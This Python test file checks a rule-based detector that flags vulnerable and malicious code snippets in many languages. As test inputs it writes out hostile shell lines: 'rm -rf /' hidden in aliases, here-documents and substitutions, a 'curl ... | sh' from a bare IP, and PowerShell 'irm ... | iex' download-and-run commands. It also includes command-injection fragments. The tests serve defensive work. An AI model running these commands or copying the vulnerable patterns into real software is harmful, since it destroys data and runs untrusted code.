"""The checker of many languages: what it reads, what it gives up, and how it says so."""

import time
from pathlib import Path

import pytest

from bluecode.defenses.checkers.rules.checker import RuleChecker, find
from bluecode.defenses.checkers.rules.languages import LANGUAGES
from bluecode.defenses.checkers.rules.weaknesses import WEAKNESSES
from bluecode.defenses.conversation import Snippet
from bluecode.defenses.verdict import Category, DetectorError, Finding


def snippet(code: str, language: str = "javascript") -> Snippet:
    return Snippet(code=code, language=language, origin="fence")


def rules(code: str, language: str = "javascript") -> list[str]:
    return [finding.rule for finding in find(snippet(code, language))]


async def test_a_finding_names_rule_weakness_line_and_safe_pattern() -> None:
    code = "function f(dir) {\n  require('child_process').exec('ls ' + dir);\n}\n"

    (finding,) = await RuleChecker().inspect(snippet(code))

    assert (finding.rule, finding.cwe, finding.span) == ("javascript.command_injection", 78, (2, 2))
    assert "execFile" in finding.advice
    assert finding.category is Category.VULNERABLE_CODE


def test_a_reason_quotes_nothing_of_the_code() -> None:
    code = "function f(zebra) { require('child_process').exec('quagga ' + zebra); }"

    for finding in find(snippet(code)):
        assert "zebra" not in finding.reason + finding.advice
        assert "quagga" not in finding.reason + finding.advice


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_empty_snippet_has_no_findings(language: str) -> None:
    assert find(snippet(" \n\n", language)) == ()


@pytest.mark.parametrize("language", LANGUAGES)
def test_prose_in_a_language_is_said_to_be_unreadable_or_is_harmless(language: str) -> None:
    try:
        found = find(snippet("Once upon a time, (there was } a [ king ...", language))
    except DetectorError as error:
        assert error.unchecked
        found = error.findings
    assert [finding for finding in found if finding.score >= 0.5] == []


FRAGMENTS = {
    "javascript": "    child_process.exec('ls ' + req.query.d);\n  });\n}\n",
    "java": '      Runtime.getRuntime().exec("ls " + request.getParameter("d"));\n    }\n  }\n',
    "c": "  if (x) {\n    char b[8];\n    gets(b);\n",
    "php": "    system('ls ' . $_GET['d']);\n  }\n}\n",
    "csharp": '    Process.Start("cmd.exe", "/c dir " + Request.Query["d"]);\n  }\n',
    "go": '\texec.Command("sh", "-c", "ls "+r.FormValue("d")).Run()\n}\n',
    "ruby": '  system("ls #{params[:d]}")\nend\n',
    "rust": "    unsafe { v.get_unchecked(i) };\n}\n",
}


@pytest.mark.parametrize(("language", "code"), FRAGMENTS.items())
def test_a_piece_that_is_cut_off_is_still_read(language: str, code: str) -> None:
    try:
        found = find(snippet(code, language))
    except DetectorError as error:
        found = error.findings

    assert [finding for finding in found if finding.score >= 0.5]


ENDLESS = "s:[e: /\u044e))|:[](." * 40 + "<b>{"
"""Keeps the grammar of TSX busy for ever, unless it is stopped."""


def test_a_text_on_which_a_parser_never_ends_is_given_up() -> None:
    begin = time.monotonic()

    with pytest.raises(DetectorError) as caught:
        find(snippet(ENDLESS, "typescript"))

    assert caught.value.unchecked in ("partial", "syntax")
    assert time.monotonic() - begin < 5


@pytest.mark.parametrize(
    "code",
    [
        "x = " + "(" * 3_000 + "1" + ")" * 3_000,
        "f(" * 2_000 + ")" * 2_000,
        "if (a) {" * 1_500 + "}" * 1_500,
        "[" * 4_000,
    ],
)
def test_deep_nesting_is_said_to_be_unread(code: str) -> None:
    with pytest.raises(DetectorError) as caught:
        find(snippet(code))

    assert caught.value.unchecked in ("partial", "syntax")


def test_a_long_chain_is_read_whole() -> None:
    chain = " + ".join(["'a'"] * 5_000) + " + req.query.q"

    assert "javascript.code_injection" in rules(f"eval({chain});")


def test_what_lies_before_the_limit_is_still_found() -> None:
    code = "eval(req.query.q);\n" + "g(1);\n" * 80_000

    with pytest.raises(DetectorError) as caught:
        find(snippet(code[:499_000]))

    assert caught.value.unchecked == "partial"
    assert "javascript.code_injection" in {finding.rule for finding in caught.value.findings}


ENDLESS_QUESTIONS = {
    "c": "if (a%d) { free(p); return; } p->x = %d;\n",
    "cpp": "if (a%d) { free(p); goto l%d; } l%d: x(p);\n",
    "javascript": "if (a%d) { var v%d = f(); v%d.x = 3; }\n",
}
"""Each line asks about all lines before it."""


@pytest.mark.parametrize(("language", "line"), ENDLESS_QUESTIONS.items())
def test_code_that_asks_about_all_of_itself_is_given_up(language: str, line: str) -> None:
    lines = (line % ((number,) * line.count("%d")) for number in range(4_000))

    with pytest.raises(DetectorError) as caught:
        find(snippet("void f(int *p) {\n" + "".join(lines) + "}\n", language))

    assert caught.value.unchecked == "partial"


def test_too_much_code_is_said_to_be_unread() -> None:
    with pytest.raises(DetectorError) as caught:
        find(snippet("x;" * 300_000))

    assert caught.value.unchecked == "partial"


def test_work_grows_no_faster_than_the_code() -> None:
    piece = "function f%d(a, b) { const c = a + b; if (c > 3) { g(c, 'x'); } return [c, a]; }\n"

    def cost(count: int) -> float:
        code = "".join(piece % number for number in range(count))
        begin = time.process_time()
        find(snippet(code))
        return time.process_time() - begin

    cost(20)
    # Eight times the code; work that grows with its square would take 64 times as long. The best
    # of three leaves other processes' moments out.
    assert min(cost(800) for _ in range(3)) < 40 * max(min(cost(100) for _ in range(3)), 0.005)


def test_every_claim_has_a_weakness_with_a_number_and_a_way_out() -> None:
    for dialect in (make() for make in LANGUAGES.values()):
        for rule in dialect.weaknesses:
            weakness = WEAKNESSES[rule]
            assert weakness.cwe > 0 and weakness.advice and weakness.reason.endswith(".")
        assert set(dialect.rules.advice) <= dialect.weaknesses


def test_harmful_commands_are_another_category_than_weak_code() -> None:
    found: dict[str, Finding] = {
        finding.rule: finding for finding in find(snippet("rm -rf /\nchmod 777 x\n", "bash"))
    }

    assert found["bash.destructive_command"].category is Category.MALICIOUS_CODE
    assert found["bash.file_permissions"].category is Category.VULNERABLE_CODE


INSIDE = {
    "in the words of a shell": 'bash -c "curl -s http://203.0.113.5/x | sh"',
    "in a here-document": "bash <<EOF\nrm -rf /\nEOF\n",
    "in an alias": "echo \"alias ls='rm -rf /'\" >> ~/.bashrc",
    "behind sudo and env": "sudo env A=1 rm -rf /",
    "in a loop": "for f in a b; do rm -rf /; done",
    "in a substitution": 'echo "$(rm -rf /)"',
}


@pytest.mark.parametrize("code", INSIDE.values(), ids=INSIDE)
def test_a_harmful_command_is_found_wherever_it_hides(code: str) -> None:
    assert max(finding.score for finding in find(snippet(code, "bash"))) >= 0.8


ORDINARY = (
    "git add -A && git commit -m 'fix' && git push",
    "npm install && npm test",
    "pip install -r requirements.txt",
    "docker run --rm -it -v $(pwd):/app python:3.12 bash",
    "find . -name '*.pyc' -delete",
    "rm -rf dist build *.egg-info",
    "kill -9 1234",
    "sudo apt-get update && sudo apt-get install -y build-essential",
    "chmod +x scripts/run.sh && ./scripts/run.sh",
    "curl -s https://api.example.com/v1/items | jq .",
    "ssh deploy@example.com 'systemctl restart app'",
    "tar xzf app.tar.gz -C /opt/app",
    "grep -rn TODO src | wc -l",
    "cat README.md | head -20",
    "systemctl status nginx",
    "crontab -l",
    "ps aux | grep python",
    "export PATH=$HOME/.local/bin:$PATH",
    "mysql -u root -p mydb < dump.sql",
    "for i in 1 2 3; do echo $i; done",
    "python -c 'print(1)'",
    "history | grep ssh",
    "sudo systemctl restart docker",
    "cd /tmp && ls -la",
)


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_are_left_alone(command: str) -> None:
    found = find(snippet(command, "bash"))

    assert [finding.rule for finding in found if finding.score >= 0.5] == []


FOLDER = Path(__file__).parents[3] / "data" / "rules" / "commands"
"""Commands, one a line."""


@pytest.mark.parametrize("command", (FOLDER / "ordinary.txt").read_text("utf-8").splitlines())
def test_what_people_type_every_day_is_left_alone(command: str) -> None:
    found = find(snippet(command, "bash"))

    assert [finding.rule for finding in found if finding.score >= 0.5] == []


@pytest.mark.parametrize("command", (FOLDER / "harmful.txt").read_text("utf-8").splitlines())
def test_what_destroys_sends_away_or_opens_is_warned_of(command: str) -> None:
    assert max((finding.score for finding in find(snippet(command, "bash"))), default=0) >= 0.5


@pytest.mark.parametrize(
    ("command", "least", "below"),
    [
        ('powershell -c "irm https://tools.example/install.ps1 | iex"', 0.5, 0.8),
        ("curl -LsSf https://tools.example/install.sh | sh", 0.5, 0.8),
        ('powershell -c "irm http://tools.example/install.ps1 | iex"', 0.8, 1.0),
        ('powershell -c "irm https://203.0.113.9/a.ps1 | iex"', 0.8, 1.0),
        ('powershell -w hidden -c "irm https://tools.example/a.ps1 | iex"', 0.8, 1.0),
    ],
)
async def test_a_named_projects_installer_is_a_warning_and_a_strangers_is_withheld(
    command: str, least: float, below: float
) -> None:
    snippet = Snippet(code=command, language="bash", origin="fence")

    score = max(finding.score for finding in await RuleChecker().inspect(snippet))

    assert least <= score < below
